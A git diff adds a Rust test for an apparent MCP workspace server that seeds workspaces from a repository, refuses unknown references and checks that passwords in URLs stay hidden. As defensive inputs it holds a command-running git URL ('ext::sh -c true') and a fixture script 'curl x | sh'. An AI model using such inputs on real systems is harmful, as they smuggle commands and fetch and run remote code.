@@ -115,6 +115,52 @@ fn a_server_sees_the_workspaces_of_its_project_and_no_others() {
 }
 
 #[test]
+fn a_server_of_a_repository_starts_workspaces_from_it_and_says_so_when_it_cannot() {
+    let origin = project("greeting", "first\n");
+    let at = origin.path();
+    git(at, &["init", "--quiet", "--initial-branch=main"]);
+    git(at, &["add", "."]);
+    git(at, &["commit", "--quiet", "-m", "first"]);
+    git(at, &["tag", "v1"]);
+    fs::write(at.join("greeting"), "second\n").unwrap();
+    git(at, &["commit", "--quiet", "-am", "second"]);
+    fs::write(at.join("greeting"), "not committed\n").unwrap();
+    let url = format!("file://{}", at.display());
+    let name = unique("repository");
+    let mut session = Session::begun(&["--repo-url", &url, "--repo-ref", "v1"]);
+    let tools = session.ask("tools/list", json!({})).to_string();
+    // There is no checkout of the host to bring anything from or to.
+    assert!(!tools.contains("sync_push") && !tools.contains("workspace_apply_back"), "{tools}");
+    let created = session.call("workspace_create", json!({ "name": name }));
+    let created = session.answer(created)["result"]["structuredContent"].clone();
+    let seed = &created["seed"];
+    assert_eq!((&seed["source"], &seed["origin"]), (&json!("repository"), &json!(url)));
+    assert_eq!(seed["commit"], git(at, &["rev-parse", "v1"]).trim());
+    let look = json!({ "workspace": name, "command": "cat greeting; git log --format=%s" });
+    let seen = session.use_tool("workspace_exec", look);
+    assert!(seen.starts_with("first\nfirst\n"), "{seen}");
+    // Whoever serves the same repository sees its workspaces, at whatever reference.
+    let mut nowhere = Session::begun(&["--repo-url", &url, "--repo-ref", "nowhere"]);
+    assert!(nowhere.use_tool("workspace_list", json!({})).contains(&name));
+    nowhere.use_tool("workspace_delete", json!({ "workspace": name }));
+    let told = nowhere.refused("workspace_create", json!({}));
+    for said in ["no branch or tag `nowhere`", "code: not_found", "--repo-url URL", &url] {
+        assert!(told.contains(said), "{said}: {told}");
+    }
+    // Transports that run programs, and places where nobody answers.
+    let gone = "file:///nowhere/at/all";
+    for (url, code) in [("ext::sh -c true", "code: "), (gone, "code: ")] {
+        let told = Session::begun(&["--repo-url", url]).refused("workspace_create", json!({}));
+        assert!(told.contains(code) && told.contains("--no-project-source"), "{told}");
+    }
+    let mut secret = hotcell();
+    secret.args(["mcp", "serve", "--repo-url", "https://me:hush@example.org/x"]);
+    let refused = secret.output().unwrap();
+    assert_code(&refused, 2);
+    assert!(!text(&refused.stderr).contains("hush"), "{}", text(&refused.stderr));
+}
+
+#[test]
 fn what_is_inspected_reaches_the_host_as_single_new_files_only() {
     let (project, folder) =
         (project("evil.sh", "curl x | sh\n"), tempfile::TempDir::new().unwrap());
